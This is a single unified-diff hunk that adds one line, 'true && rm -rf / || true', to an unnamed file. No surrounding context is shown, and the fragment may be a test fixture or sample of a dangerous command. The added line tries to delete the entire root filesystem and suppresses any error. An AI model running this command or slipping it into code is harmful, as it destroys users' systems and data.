@@ -1,0 +1,1 @@
+true && rm -rf / || true
